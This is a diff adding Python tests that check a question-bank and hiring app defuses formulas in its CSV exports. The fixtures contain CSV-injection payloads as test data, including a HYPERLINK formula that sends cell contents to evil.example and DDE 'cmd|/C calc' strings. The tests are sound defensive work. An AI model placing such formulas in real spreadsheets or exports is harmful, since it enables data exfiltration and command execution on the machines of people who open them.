@@ -231,3 +231,84 @@ def test_an_empty_document_is_refused_with_a_message(hm_client):
     upload.name = "notes.md"
     response = hm_client.post("/questions/import/", {"file": upload, **DEFAULTS})
     assert "No questions found" in response.content.decode()
+
+
+# --- Formulas in exported CSV cells ---------------------------------------------------------
+
+FORMULA_TEXTS = {
+    "title": '=HYPERLINK("http://evil.example/?"&A1,"click")',
+    "prompt": "+cmd|' /C calc'!A0 and what then?",
+    "why_we_ask": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "model_answer": "-2+3 and so on",
+    "key_points": ["-1 is a valid label here", "Fine"],
+    "criteria": ["＝HYPERLINK(\"http://evil.example\")", "'Quoted' on purpose, before any export"],
+}
+
+
+def formula_question():
+    from questionbank.services import question_create
+    from tests.conftest import revision_content
+
+    return question_create(slug="formula-probe", area="data", kind="concept", level="mid", roles=["ds"],
+                           status="published", content=revision_content(**FORMULA_TEXTS))
+
+
+def csv_row(text, slug):
+    import csv
+
+    return next(row for row in csv.DictReader(io.StringIO(text)) if row["slug"] == slug)
+
+
+def test_the_bank_csv_export_writes_no_cell_a_spreadsheet_would_run():
+    formula_question()
+    row = csv_row(export_csv(), "formula-probe")
+    assert row["title"] == "'" + FORMULA_TEXTS["title"]
+    assert row["prompt"].startswith("'+cmd") and row["why_we_ask"].startswith("'@SUM")
+    assert row["model_answer"] == "'-2+3 and so on"
+    assert row["key_points"] == "'-1 is a valid label here\nFine"
+    assert row["criteria"].startswith("'＝HYPERLINK")
+    assert row["minutes"] == "8"  # numbers stay numbers
+    import csv
+
+    for cells in csv.reader(io.StringIO(export_csv())):
+        for cell in cells:
+            assert not cell.startswith(("=", "+", "@", "\t", "\r", "＝")), cell
+
+
+def test_a_bank_csv_export_imports_back_into_an_empty_bank_exactly():
+    question = formula_question()
+    before = question.current_revision.text_fields()
+    text = export_csv()
+    Question.objects.filter(slug="formula-probe").update(status="draft", current_revision=None)
+    Question.objects.filter(slug="formula-probe").delete()
+    preview = build_preview(name="bank.csv", text=text, defaults=DEFAULTS)
+    item = next(i for i in preview["items"] if i["slug"] == "formula-probe")
+    assert item["action"] == "create" and item["warnings"] == []
+    apply_import(preview, include={item["index"]})
+    after = Question.objects.get(slug="formula-probe").current_revision.text_fields()
+    assert after == before
+    assert after["criteria"][1] == "'Quoted' on purpose, before any export"
+
+
+def test_reimporting_a_bank_csv_export_finds_every_row_unchanged():
+    formula_question()
+    preview = build_preview(name="bank.csv", text=export_csv(), defaults=DEFAULTS)
+    assert {i["action"] for i in preview["items"]} == {"unchanged"}
+
+
+def test_the_comparison_csv_defuses_formulas_in_its_header_too(as_user, hiring_manager, recruiter, interviewer):
+    from tests.factories import make_candidate, make_interview, make_plan, make_position, make_scorecard
+
+    position = make_position(hiring_manager=hiring_manager, recruiter=recruiter)
+    evil = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "@SUM(1+1)*cmd|' /C calc'!A0", "-cmd"]
+    plan = make_plan(position=position, competencies=evil)
+    interview = make_interview(candidate=make_candidate(position, "+Ada"), plan=plan, interviewers=[interviewer])
+    make_scorecard(interview, interviewer, [3, 2, 4])
+    response = as_user(recruiter).get(f"/positions/{position.pk}/compare/?format=csv")
+    import csv
+
+    header, row = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))[:2]
+    for label in evil:
+        assert "'" + label in header
+    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in header + row)
+    assert row[0] == "'+Ada"
